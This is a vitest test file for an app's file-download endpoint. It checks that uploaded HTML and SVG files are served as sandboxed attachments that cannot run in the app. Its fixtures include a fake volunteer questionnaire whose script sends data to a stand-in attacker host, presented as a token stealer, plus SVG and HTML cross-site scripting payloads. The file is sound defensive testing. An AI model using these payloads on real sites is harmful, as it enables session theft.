import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { material } from './helpers/fixtures.ts';
import { injectTransport, TestDevice } from './helpers/sync-client.ts';
import { addUser, signIn, startTestApp, type TestApp } from './helpers/test-app.ts';
import { openTestStore, type TestStore } from './helpers/test-store.ts';

const hashOf = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

// a «questionnaire» that is really a page stealing the signed-in librarian's token
const questionnaire = Buffer.from(
  '<!doctype html><title>Анкета волонтёра</title>' +
    '<script>fetch("https://evil.example/?t="+localStorage.length)</script>',
);
const logo = Buffer.concat([
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
  Buffer.from('IHDR логотип центра'),
]);
const drawing = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
);
const report = Buffer.from('%PDF-1.7 Отчёт о деятельности НКО за 2025 год ');

describe('a downloaded file never becomes a page of the app', () => {
  let store: TestStore;
  let server: TestApp;
  let regional: string;
  let tigil: string;
  const get = (token: string, sha256: string) =>
    server.app.inject({
      method: 'GET',
      url: `/api/blobs/${sha256}`,
      headers: { authorization: `Bearer ${token}` },
    });

  beforeAll(async () => {
    store = await openTestStore();
    server = await startTestApp(store);
    await addUser(store, 'regional');
    await addUser(store, 'tigil', 'tigil');
    regional = await signIn(server.app, 'regional');
    tigil = await signIn(server.app, 'tigil');
    const files = [
      [questionnaire, 'Анкета волонтёра.html', 'text/html'],
      [logo, 'Логотип.png', 'image/png'],
      [drawing, 'Схема проезда.svg', 'image/svg+xml'],
      [report, 'Отчёт 2025.pdf', 'application/pdf'],
    ] as const;
    for (const [bytes] of files)
      await server.app.inject({
        method: 'PUT',
        url: `/api/blobs/${hashOf(bytes)}`,
        headers: {
          authorization: `Bearer ${regional}`,
          'content-type': 'application/octet-stream',
        },
        payload: bytes,
      });
    const pc = new TestDevice(injectTransport(server.app, regional));
    const kit = material(
      files.map(([bytes, name, mime]) => ({
        sha256: hashOf(bytes),
        name,
        size: bytes.length,
        mime,
      })),
    );
    pc.edit('materials', kit.id, kit);
    await pc.sync();
    expect(pc.rejected).toEqual([]);
  });
  afterAll(async () => {
    await server.close();
    await store.dispose();
  });

  it('an HTML file comes back as a download named in Cyrillic, never as text/html', async () => {
    const response = await get(tigil, hashOf(questionnaire));

    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).not.toMatch(/html/);
    expect(response.headers['content-type']).toBe('application/octet-stream');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="______ _________.html"; filename*=UTF-8''${encodeURIComponent('Анкета волонтёра.html')}`,
    );
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    expect(response.headers['content-security-policy']).toMatch(/\bsandbox\b/);
  });

  it('an SVG with a script inside is a download too', async () => {
    const response = await get(tigil, hashOf(drawing));
    expect(response.headers['content-type']).toBe('application/octet-stream');
    expect(response.headers['content-disposition']).toMatch(/^attachment; /);
  });

  it('a PNG and a PDF open in place, sandboxed, with their own type', async () => {
    const png = await get(tigil, hashOf(logo));
    expect(png.headers['content-type']).toBe('image/png');
    expect(png.headers['content-disposition']).toBe(
      `inline; filename="_______.png"; filename*=UTF-8''${encodeURIComponent('Логотип.png')}`,
    );
    const pdf = await get(tigil, hashOf(report));
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect(pdf.headers['content-disposition']).toMatch(/^inline; /);
    for (const response of [png, pdf]) {
      expect(response.headers['x-content-type-options']).toBe('nosniff');
      expect(response.headers['content-security-policy']).toMatch(/\bsandbox\b/);
    }
  });

  it('an HTML file its uploader fetches before any record names it is a download as well', async () => {
    const page = Buffer.from('<html><body onload="alert(1)">Приглашение на форум</body></html>');
    await server.app.inject({
      method: 'PUT',
      url: `/api/blobs/${hashOf(page)}`,
      headers: { authorization: `Bearer ${tigil}`, 'content-type': 'application/octet-stream' },
      payload: page,
    });
    const response = await get(tigil, hashOf(page));
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/octet-stream');
    expect(response.headers['content-disposition']).toBe('attachment');
  });
});
